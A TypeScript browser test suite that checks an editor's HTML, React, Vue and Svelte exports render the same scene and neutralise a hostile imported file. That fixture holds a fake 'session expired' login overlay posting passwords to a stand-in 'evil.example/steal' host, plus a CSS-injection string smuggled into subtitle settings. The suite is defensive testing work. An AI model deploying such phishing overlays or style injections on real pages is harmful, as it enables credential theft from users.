import { execFile } from "node:child_process";
import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join, resolve } from "node:path";
import { fileURLToPath } from "node:url";
import { promisify } from "node:util";
import { svelte } from "@sveltejs/vite-plugin-svelte";
import react from "@vitejs/plugin-react";
import vue from "@vitejs/plugin-vue";
import { type Browser, type Page, chromium } from "playwright";
import { type PluginOption, build } from "vite";
import { afterAll, beforeAll, expect, test } from "vitest";
import {
  CATALOGUE,
  type Project,
  createPluginSet,
  createProject,
  exportHtml,
  exportReact,
  exportSvelte,
  exportVue,
  importFile,
  loadGazetteer,
} from "@popcorn-kit/editor";
import { HOSTILE, SAMPLE_TIMES, SCENE } from "../../editor/tests/fixtures/scene.js";
import { chromiumArgs, chromiumPath } from "../chromium.js";
import { differingShare, showVideoFrame, stablePicture } from "../screenshots.js";
import { type Served, serveFolder } from "../fresh/serveFolder.js";

/**
 * One project of 30 events across 9 plugins (editor/tests/fixtures/scene.ts) exported four ways: the HTML page
 * (as `exportHtml` writes it by default, compat's global build and the kit's stylesheet inside: one file), and React, Vue and Svelte components, each written into a small app
 * in a temporary folder whose dependencies are the workspace's packages. The three apps are type-checked
 * strictly (`tsc`, `vue-tsc`, `svelte-check`; with the scene on YouTube and on Vimeo too), built by Vite, served with the page, and opened in Chromium; at
 * ten sampled times (video paused, sought, the page let settle) what each outlet shows (its text, its images'
 * addresses) and the captions over the video must be the same in the four. `EDITOR_EXPORTS_SCREENSHOTS=<folder>`
 * saves each page at the fourth sampled time.
 */

const run = promisify(execFile);
const here = dirname(fileURLToPath(import.meta.url));
const repo = resolve(here, "../..");
const media = join(repo, "test/fixtures/media");

type Kind = "html" | "react" | "vue" | "svelte";
const KINDS: readonly Kind[] = ["html", "react", "vue", "svelte"];

let root = "";
let browser: Browser;
const served = new Map<Kind | "stage", Served>();
const timings: string[] = [];
const OUTLETS = SCENE.layout.outlets.map((outlet) => outlet.name);
const screenshots = process.env.EDITOR_EXPORTS_SCREENSHOTS;

/** The scene on YouTube and on Vimeo: type-checked with the apps, not opened (they need the network). */
const YOUTUBE = {
  ...SCENE,
  media: { ...SCENE.media, source: { kind: "youtube", url: "https://youtu.be/dQw4w9WgXcQ" } },
} as const;
const VIMEO = {
  ...SCENE,
  media: { ...SCENE.media, source: { kind: "vimeo", url: "https://vimeo.com/76979871" } },
} as const;

/**
 * A Popcorn JSON file no one here would write, imported as a person imports one: a text event whose html lays a
 * full-window "session expired" form over the page and fetches from another origin, and a subtitle whose settings
 * try to add style of their own. Its events are a file's: each export must show them with the strict profile of
 * files' html, inside their outlet and captions box, requesting nothing from elsewhere.
 */
const PHISHING =
  '<div style="position:fixed;inset:0;z-index:2147483647;background:white">Session expired, sign in again' +
  '<form action="https://evil.example/steal"><input type="password" name="p"><button>Sign in</button></form>' +
  '<img src="https://evil.example/t.png" alt=""></div>';
const COVER = "0%; position:fixed; inset:0; z-index:2147483647; background:url(https://evil.example/c.png) white; x:";
const IMPORTED = importFile(
  JSON.stringify({
    data: [
      { text: { start: 0, end: 9, html: PHISHING, target: "notes" } },
      { subtitle: { start: 0, end: 9, text: "A line from the file", settings: { snapToLines: false, line: COVER } } },
    ],
  }),
  {
    plugins: createPluginSet(CATALOGUE),
    fileName: "hostile.json",
    into: createProject({
      id: "p-imported",
      media: { source: { kind: "url", url: "clip.webm" }, duration: 10 },
      layout: { outlets: [{ name: "notes", placement: "beside", box: { left: 0, top: 0, width: 100, height: 60 } }] },
    }),
  },
).project;

const tsconfig = (extra: Record<string, unknown>, include: string[]) =>
  JSON.stringify({
    compilerOptions: {
      target: "ES2022",
      lib: ["ES2022", "DOM", "DOM.Iterable"],
      module: "ESNext",
      moduleResolution: "bundler",
      strict: true,
      noUncheckedIndexedAccess: true,
      // The packages' own declarations are the fresh-app test's to check; here, the generated code is.
      skipLibCheck: true,
      noEmit: true,
      types: ["vite/client"],
      ...extra,
    },
    include,
  });

/** The app's files: its page, its entry, the exported component, its tsconfig, and the media beside the page. */
const APPS = {
  react: {
    files: {
      "src/Scene.tsx": () => exportReact(SCENE).code,
      "src/YouTube.tsx": () => exportReact(YOUTUBE).code,
      "src/Vimeo.tsx": () => exportReact(VIMEO).code,
      "src/Imported.tsx": () => exportReact(IMPORTED).code,
      "src/main.tsx": () =>
        'import { createRoot } from "react-dom/client";\nimport { Scene } from "./Scene.js";\n\ncreateRoot(document.getElementById("app")!).render(<Scene />);\n',
      "src/importedMain.tsx": () =>
        'import { createRoot } from "react-dom/client";\nimport { Scene } from "./Imported.js";\n\ncreateRoot(document.getElementById("app")!).render(<Scene />);\n',
      "src/Maker.tsx": () => exportReact(maker()).code,
      "src/makerMain.tsx": () =>
        'import { createRoot } from "react-dom/client";\nimport { Scene } from "./Maker.js";\n\ncreateRoot(document.getElementById("app")!).render(<Scene />);\n',
      "tsconfig.json": () => tsconfig({ jsx: "react-jsx", exactOptionalPropertyTypes: true }, ["src"]),
    },
    entry: "/src/main.tsx",
    importedEntry: "/src/importedMain.tsx",
    makerEntry: "/src/makerMain.tsx",
    check: ["tsc", ["-p", "tsconfig.json"]],
    plugin: () => react(),
  },
  vue: {
    files: {
      "src/Scene.vue": () => exportVue(SCENE).code,
      "src/YouTube.vue": () => exportVue(YOUTUBE).code,
      "src/Vimeo.vue": () => exportVue(VIMEO).code,
      "src/Imported.vue": () => exportVue(IMPORTED).code,
      "src/main.ts": () =>
        'import { createApp } from "vue";\nimport Scene from "./Scene.vue";\n\ncreateApp(Scene).mount("#app");\n',
      "src/importedMain.ts": () =>
        'import { createApp } from "vue";\nimport Scene from "./Imported.vue";\n\ncreateApp(Scene).mount("#app");\n',
      "src/Maker.vue": () => exportVue(maker()).code,
      "src/makerMain.ts": () =>
        'import { createApp } from "vue";\nimport Scene from "./Maker.vue";\n\ncreateApp(Scene).mount("#app");\n',
      "tsconfig.json": () =>
        tsconfig({}, ["src/**/*.ts", "src/**/*.vue"]).replace(/}$/, ',"vueCompilerOptions":{"strictTemplates":true}}'),
    },
    entry: "/src/main.ts",
    importedEntry: "/src/importedMain.ts",
    makerEntry: "/src/makerMain.ts",
    check: ["vue-tsc", ["-p", "tsconfig.json"]],
    plugin: () => vue(),
  },
  svelte: {
    files: {
      "src/Scene.svelte": () => exportSvelte(SCENE).code,
      "src/YouTube.svelte": () => exportSvelte(YOUTUBE).code,
      "src/Vimeo.svelte": () => exportSvelte(VIMEO).code,
      "src/Imported.svelte": () => exportSvelte(IMPORTED).code,
      "src/main.ts": () =>
        'import { mount } from "svelte";\nimport Scene from "./Scene.svelte";\n\nmount(Scene, { target: document.getElementById("app")! });\n',
      "src/importedMain.ts": () =>
        'import { mount } from "svelte";\nimport Scene from "./Imported.svelte";\n\nmount(Scene, { target: document.getElementById("app")! });\n',
      "src/Maker.svelte": () => exportSvelte(maker()).code,
      "src/makerMain.ts": () =>
        'import { mount } from "svelte";\nimport Scene from "./Maker.svelte";\n\nmount(Scene, { target: document.getElementById("app")! });\n',
      "tsconfig.json": () => tsconfig({ verbatimModuleSyntax: true }, ["src/**/*.ts", "src/**/*.svelte"]),
    },
    entry: "/src/main.ts",
    importedEntry: "/src/importedMain.ts",
    makerEntry: "/src/makerMain.ts",
    check: ["svelte-check", ["--tsconfig", "./tsconfig.json", "--fail-on-warnings"]],
    plugin: () => svelte(),
  },
} satisfies Record<
  Exclude<Kind, "html">,
  {
    files: Record<string, () => string>;
    entry: string;
    importedEntry: string;
    makerEntry: string;
    check: [string, string[]];
    plugin: () => PluginOption;
  }
>;

/** Runs a command of the workspace (`node_modules/.bin`) in `cwd`; a failure carries its output. */
async function bin(cwd: string, command: string, args: string[]): Promise<void> {
  try {
    await run(join(repo, "node_modules/.bin", command), args, { cwd, maxBuffer: 16 * 1024 * 1024 });
  } catch (error) {
    const { stdout = "", stderr = "" } = error as { stdout?: string; stderr?: string };
    throw new Error(`${command} ${args.join(" ")} failed in ${cwd}:\n${stdout}${stderr}`);
  }
}

/** Measures a step, for the figures the test prints. */
async function timed<T>(label: string, step: () => Promise<T>): Promise<T> {
  const started = performance.now();
  const result = await step();
  timings.push(`${label} ${((performance.now() - started) / 1000).toFixed(1)} s`);
  return result;
}

const checks: Promise<void>[] = [];

/**
 * A project as Popcorn Maker (Butter) saved them (editor/tests/fixtures/butter-project.json: popups and texts with
 * fonts, colours and links, a map by place name, Wikipedia titles, positions that cluster), imported as a person
 * imports it, its map placed by the offline gazetteer.
 */
let MAKER: Project | undefined;
const maker = (): Project => MAKER!;

beforeAll(async () => {
  MAKER = importFile(readFileSync(join(repo, "editor/tests/fixtures/butter-project.json"), "utf8"), {
    plugins: createPluginSet(CATALOGUE),
    fileName: "butter-project.json",
    findPlace: (await loadGazetteer()).find,
  }).project;
  root = mkdtempSync(join(tmpdir(), "popcorn-kit-editor-exports-"));
  // The apps resolve the workspace's packages (the adapters' builds, React, Vue, Svelte) through this link.
  symlinkSync(join(repo, "node_modules"), join(root, "node_modules"), "dir");
  const html = join(root, "html");
  mkdirSync(html);
  // The pages as exportHtml writes them by default: the runtime, the kit's stylesheet and, for the map, Leaflet inside.
  writeFileSync(join(html, "index.html"), exportHtml(SCENE).code);
  writeFileSync(join(html, "imported.html"), exportHtml(IMPORTED).code);
  writeFileSync(join(html, "maker.html"), exportHtml(maker()).code);
  for (const file of ["clip.webm", "poster.jpg"]) cpSync(join(media, file), join(html, file));
  served.set("html", await serveFolder(html));
  for (const [kind, app] of Object.entries(APPS)) {
    const folder = join(root, kind);
    mkdirSync(join(folder, "src"), { recursive: true });
    mkdirSync(join(folder, "public"));
    for (const file of ["clip.webm", "poster.jpg"]) cpSync(join(media, file), join(folder, "public", file));
    for (const [page, entry] of [
      ["index.html", app.entry],
      ["imported.html", app.importedEntry],
      ["maker.html", app.makerEntry],
    ]) {
      writeFileSync(
        join(folder, page!),
        `<!doctype html>\n<html lang="en">\n<head><meta charset="utf-8"><title>${kind}</title></head>\n<body><div id="app"></div><script type="module" src="${entry}"></script></body>\n</html>\n`,
      );
    }
    for (const [file, write] of Object.entries(app.files)) writeFileSync(join(folder, file), write());
    // The type checks run in their own processes while Vite builds here.
    checks.push(timed(`${app.check[0]}`, () => bin(folder, app.check[0], app.check[1])));
  }
  for (const [kind, app] of Object.entries(APPS)) {
    const folder = join(root, kind);
    await timed(`vite build ${kind}`, () =>
      build({
        root: folder,
        configFile: false,
        logLevel: "error",
        plugins: [app.plugin()],
        build: {
          outDir: "dist",
          rollupOptions: {
            input: {
              index: join(folder, "index.html"),
              imported: join(folder, "imported.html"),
              maker: join(folder, "maker.html"),
            },
          },
        },
      }),
    );
    served.set(kind as Kind, await serveFolder(join(folder, "dist")));
  }
  // The editor with the same project, whose stage the exports are compared with.
  const stage = join(root, "stage");
  mkdirSync(join(stage, "src"), { recursive: true });
  mkdirSync(join(stage, "public"));
  for (const file of ["clip.webm", "poster.jpg"]) cpSync(join(media, file), join(stage, "public", file));
  writeFileSync(
    join(stage, "index.html"),
    '<!doctype html>\n<html lang="en">\n<head><meta charset="utf-8"><title>stage</title><style>html, body, #app { height: 100%; margin: 0; }</style></head>\n<body><div id="app"></div><script type="module" src="/src/main.tsx"></script></body>\n</html>\n',
  );
  writeFileSync(
    join(stage, "src/main.tsx"),
    `import "@popcorn-kit/core/styles.css";\nimport "@popcorn-kit/editor/react/editor.css";\nimport "leaflet/dist/leaflet.css";\nimport { PopcornEditor } from "@popcorn-kit/editor/react";\nimport { createRoot } from "react-dom/client";\n\nconst projects = JSON.parse(${JSON.stringify(JSON.stringify({ index: STAGED, maker: maker() }))});\nconst project = projects[new URLSearchParams(location.search).get("project") ?? "index"];\ncreateRoot(document.getElementById("app")!).render(<PopcornEditor project={project} theme="light" />);\n`,
  );
  await timed("vite build stage", () =>
    build({ root: stage, configFile: false, logLevel: "error", plugins: [react()], build: { outDir: "dist" } }),
  );
  served.set("stage", await serveFolder(join(stage, "dist")));
  browser = await chromium.launch({ executablePath: await chromiumPath(), args: chromiumArgs });
});

afterAll(async () => {
  await browser?.close();
  for (const server of served.values()) await server.close();
  await Promise.allSettled(checks);
  if (root) rmSync(root, { recursive: true, force: true });
  console.log(`[editor exports] ${timings.join(", ")}`);
});

test("the React, Vue and Svelte code type-checks strictly", async () => {
  await Promise.all(checks);
});

/** What the page shows at one time: each outlet's text and images, and the captions over the video. */
type Seen = Record<string, { text: string; images: string[] }>;

async function visit(kind: Kind): Promise<{ seen: Seen[]; problems: string[] }> {
  const page = await browser.newPage({ viewport: { width: 1280, height: 900 } });
  const problems: string[] = [];
  page.on("pageerror", (error) => problems.push(`${kind}: ${error.message}`));
  page.on("console", (message) => {
    if (message.type() === "error") problems.push(`${kind}: ${message.text()}`);
  });
  await page.goto(served.get(kind)!.url);
  await page.waitForFunction(() => (document.querySelector("video")?.readyState ?? 0) >= 1);
  const seen: Seen[] = [];
  for (const time of SAMPLE_TIMES) {
    await page.evaluate(async (t) => {
      const video = document.querySelector("video")!;
      video.pause();
      const sought = new Promise((done) => video.addEventListener("seeked", done, { once: true }));
      video.currentTime = t;
      await sought;
    }, time);
    // Settled: two readings two frames and 50 ms apart that agree.
    let previous = "";
    for (let reading = 0; reading < 40; reading++) {
      const now = await page.evaluate(async (names) => {
        await new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)));
        await new Promise((done) => setTimeout(done, 50));
        const read = (element: Element) => ({
          // biome-ignore lint/performance/useDomNodeTextContent: what is shown, line breaks included, is compared
          text: (element as HTMLElement).innerText.replace(/\s+/g, " ").trim(),
          images: [...element.querySelectorAll("img")].map((img) => img.getAttribute("src")?.split("/").pop() ?? ""),
        });
        const out: Record<string, { text: string; images: string[] }> = {};
        for (const name of names) out[name] = read(document.querySelector(`.pk-scene-outlet-${name}`)!);
        out.captions = read(document.querySelector(".pk-scene-captions")!);
        return JSON.stringify(out);
      }, OUTLETS);
      if (now === previous) break;
      previous = now;
    }
    seen.push(JSON.parse(previous));
    // The video stays the page's to click: its controls (the play button's corner) and, under every empty outlet
    // over it, the picture; an empty outlet paints nothing.
    const buried = await page.evaluate((names) => {
      const video = document.querySelector("video")!;
      const v = video.getBoundingClientRect();
      const found: string[] = [];
      const hits = (x: number, y: number) => {
        const element = document.elementFromPoint(x, y);
        return element === video || (element !== null && video.contains(element));
      };
      if (!hits(v.left + 20, v.bottom - 14)) found.push("the video's play button is covered");
      for (const name of names) {
        const outlet = document.querySelector<HTMLElement>(`.pk-scene-outlet-${name}`)!;
        if (outlet.textContent?.trim() || outlet.querySelector("img")) continue;
        const style = getComputedStyle(outlet);
        if (style.backgroundColor !== "rgba(0, 0, 0, 0)" || style.boxShadow !== "none")
          found.push(`${name} paints while empty`);
        const box = outlet.getBoundingClientRect();
        const x = box.left + box.width / 2;
        const y = box.top + box.height / 2;
        if (x > v.left && x < v.right && y > v.top && y < v.bottom && !hits(x, y))
          found.push(`${name} takes the video's clicks while empty`);
      }
      return found;
    }, OUTLETS);
    for (const finding of buried) problems.push(`${kind} at ${time} s: ${finding}`);
    if (screenshots && time === SAMPLE_TIMES[3])
      await page.screenshot({ path: join(screenshots, `${kind}.png`), fullPage: true });
  }
  await page.close();
  return { seen, problems };
}

test("the four exports show the same content at the same ten times", async () => {
  const visits = {} as Record<Kind, Seen[]>;
  const problems: string[] = [];
  await timed("four visits", async () => {
    for (const kind of KINDS) {
      const visit_ = await visit(kind);
      visits[kind] = visit_.seen;
      problems.push(...visit_.problems);
    }
  });
  console.log(`[editor exports] the HTML page at ${SAMPLE_TIMES[3]} s: ${JSON.stringify(visits.html[3])}`);
  expect(problems).toEqual([]);
  // The page shows the scene: every outlet and the captions have content at some time, the hostile texts as written.
  const html = visits.html;
  for (const name of [...SCENE.layout.outlets.map((o) => o.name), "captions"]) {
    expect(
      html.some((at) => at[name]!.text !== "" || at[name]!.images.length > 0),
      name,
    ).toBe(true);
  }
  const shown = JSON.stringify(html);
  expect(shown).toContain(JSON.stringify(HOSTILE.script).slice(1, -1));
  expect(shown).toContain(JSON.stringify(HOSTILE.braces).slice(1, -1));
  // The callout (Popcorn Maker's popup) shows its text over the video from 4.8 s to 7.5 s.
  expect(SAMPLE_TIMES.map((time, i) => [time, html[i]!.bubble!.text])).toEqual(
    SAMPLE_TIMES.map((time) => [time, time > 4.8 && time < 7.5 ? HOSTILE.quotes : ""]),
  );
  for (const kind of ["react", "vue", "svelte"] as const) {
    for (const [i, time] of SAMPLE_TIMES.entries()) expect(visits[kind][i], `${kind} at ${time} s`).toEqual(html[i]);
  }
});

test("a hostile file imported and exported four ways: its html stays in its outlet, its subtitle in the captions, nothing requested from elsewhere", async () => {
  expect(IMPORTED.lanes.flatMap((lane) => lane.events.map((event) => event.origin))).toEqual(["file", "file"]);
  const problems: string[] = [];
  for (const kind of KINDS) {
    const page = await browser.newPage({ viewport: { width: 1280, height: 900 } });
    const elsewhere: string[] = [];
    const own = new URL(served.get(kind)!.url).origin;
    page.on("request", (request) => {
      if (new URL(request.url()).origin !== own) elsewhere.push(request.url());
    });
    page.on("pageerror", (error) => problems.push(`${kind}: ${error.message}`));
    await page.goto(`${served.get(kind)!.url.replace(/\/$/, "")}/imported.html`);
    await page.waitForFunction(() => (document.querySelector("video")?.readyState ?? 0) >= 1);
    await page.evaluate(async () => {
      const video = document.querySelector("video")!;
      const sought = new Promise((done) => video.addEventListener("seeked", done, { once: true }));
      video.currentTime = 2;
      await sought;
    });
    // The file's text and line show where they belong.
    await page
      .waitForFunction(
        () =>
          document.querySelector(".pk-scene-outlet-notes")?.textContent?.includes("Session expired") &&
          document.querySelector(".pk-scene-captions")?.textContent?.includes("A line from the file"),
        undefined,
        { timeout: 30_000 },
      )
      .catch(async (error: Error) => {
        const shown = await page.evaluate(() => document.body.innerHTML.slice(0, 3000));
        throw new Error(`${kind}: the file's text and line did not show (${error.message}); the page holds ${shown}`);
      });
    const found = await page.evaluate(() => {
      const viewport = { width: window.innerWidth, height: window.innerHeight };
      const notes = document.querySelector(".pk-scene-outlet-notes")!.getBoundingClientRect();
      const inNotes = [...document.querySelectorAll(".pk-scene-outlet-notes *")].map((element) => {
        const box = element.getBoundingClientRect();
        return (
          box.width === 0 || (box.left >= notes.left - 1 && box.right <= notes.right + 1 && box.top >= notes.top - 1)
        );
      });
      const fixed = [...document.querySelectorAll("body *")].filter(
        (element) => getComputedStyle(element).position === "fixed",
      ).length;
      const line = document.querySelector<HTMLElement>(".pk-scene-captions .pk-caption");
      return {
        viewport,
        fields: document.querySelectorAll("form, input, button, textarea").length,
        fixed,
        outside: inNotes.filter((inside) => !inside).length,
        lineStyle: line?.getAttribute("style") ?? "",
        lineCovers: line ? line.getBoundingClientRect().height >= viewport.height / 2 : false,
      };
    });
    expect(found.fields, kind).toBe(0);
    expect(found.fixed, kind).toBe(0);
    expect(found.outside, kind).toBe(0);
    expect(found.lineStyle, kind).not.toMatch(/position|inset|z-index|url\(/);
    expect(found.lineCovers, kind).toBe(false);
    await page.waitForLoadState("networkidle");
    expect(elsewhere, kind).toEqual([]);
    await page.close();
  }
  expect(problems).toEqual([]);
});

/** The scene as the editor opens it: its media at the address the exports play it from. */
const STAGED = { ...SCENE, media: { ...SCENE.media, source: { kind: "url", url: "clip.webm" } } } as const;

/** At most this share of the scene's pixels may differ between the stage and an export (video decoding, text antialiasing). */
const STAGE_TOLERANCE = 0.01;

/**
 * Pictures the editor's stage with `project` (the stage app's `?project=`) and each export's `page` at `times`, the
 * scene as wide in each, and compares them; what no one serves here (the network) is refused at once in all.
 * Returns the shares of differing pixels, as figures.
 */
async function compareWithStage(project: "index" | "maker", page: string, times: readonly number[]): Promise<string[]> {
  const failures = mkdtempSync(join(tmpdir(), `editor-stage-vs-exports-${project}-`));
  const options = { deviceScaleFactor: 1, reducedMotion: "reduce" } as const;
  const offline = async (tab: Page) => {
    const own = new URL(tab.url() || "http://localhost/").origin;
    await tab.route("**/*", (route) =>
      new URL(route.request().url()).origin === own ? route.continue() : route.abort("internetdisconnected"),
    );
  };
  const stage = await browser.newPage({ ...options, viewport: { width: 1920, height: 1400 } });
  await stage.goto(`${served.get("stage")!.url.replace(/\/$/, "")}/?project=${project}`);
  await offline(stage);
  const video = "[data-testid=pke-stage-video] video";
  await stage.waitForFunction(
    (selector) => (document.querySelector<HTMLVideoElement>(selector)?.readyState ?? 0) >= 2,
    video,
  );
  const drawn = await stage.evaluate(() => {
    const page = document.querySelector<HTMLElement>(".pke-stage-page")!;
    return {
      width: page.querySelector<HTMLElement>(".pk-scene")!.offsetWidth,
      scale: page.getBoundingClientRect().width / page.offsetWidth,
    };
  });
  // The stage draws the page at its size here, so that the pictures compare without resampling.
  expect(drawn.scale).toBe(1);
  await stage.mouse.move(0, 0);
  const pictures = [];
  for (const time of times) {
    expect(await showVideoFrame(stage, video, time), `the stage's frame at ${time} s`).toBe(true);
    pictures.push(await stablePicture(stage, ".pke-stage-page .pk-scene"));
  }
  await stage.close();
  // The pictures tell moments apart (a comparison that could not fail would prove nothing).
  expect(differingShare(pictures[0]!, pictures[1]!, join(failures, "moments"), 1)).toBeGreaterThan(0.05);
  const shares: string[] = [];
  for (const kind of KINDS) {
    const tab = await browser.newPage({ ...options, viewport: { width: 1280, height: 1400 } });
    await tab.goto(`${served.get(kind)!.url.replace(/\/$/, "")}/${page}`);
    await offline(tab);
    await tab.waitForFunction(() => (document.querySelector("video")?.readyState ?? 0) >= 2);
    // The window that gives the scene the stage's width; the video's own controls are the browser's, not the page's.
    const width = await tab.evaluate(() => document.querySelector<HTMLElement>(".pk-scene")!.offsetWidth);
    await tab.setViewportSize({ width: 1280 + drawn.width - width, height: 1400 });
    expect(await tab.evaluate(() => document.querySelector<HTMLElement>(".pk-scene")!.offsetWidth), kind).toBe(
      drawn.width,
    );
    await tab.addStyleTag({ content: "video::-webkit-media-controls { display: none !important; }" });
    for (const [i, time] of times.entries()) {
      expect(await showVideoFrame(tab, "video", time), `${kind}'s frame at ${time} s`).toBe(true);
      const picture = await stablePicture(tab, ".pk-scene");
      expect([picture.width, picture.height], `${kind} at ${time} s`).toEqual([
        pictures[i]!.width,
        pictures[i]!.height,
      ]);
      const share = differingShare(pictures[i]!, picture, join(failures, `${kind}-${time}`), STAGE_TOLERANCE);
      shares.push(`${kind} ${time} s ${(share * 100).toFixed(2)}%`);
      expect(share, `${kind} at ${time} s differs from the stage (pictures in ${failures})`).toBeLessThanOrEqual(
        STAGE_TOLERANCE,
      );
    }
    await tab.close();
  }
  return shares;
}

test("the editor's stage is the page: the stage and each export, at the same width and times, pixel for pixel", async () => {
  // A callout over the video, lines, notes and credits.
  const shares = await compareWithStage("index", "", [SAMPLE_TIMES[1]!, SAMPLE_TIMES[5]!, SAMPLE_TIMES[8]!]);
  console.log(`[editor exports] pixels differing from the stage: ${shares.join(", ")}`);
});

test("a Popcorn Maker project imported looks as the stage shows it in every export: fonts, colours, links, clustered outlets, its map by name", async () => {
  // The map is over the video from 3 s to 7 s.
  const shares = await compareWithStage("maker", "maker.html", [1, 3.6, 8.5]);
  console.log(`[editor exports] the Popcorn Maker project, pixels differing from the stage: ${shares.join(", ")}`);
});
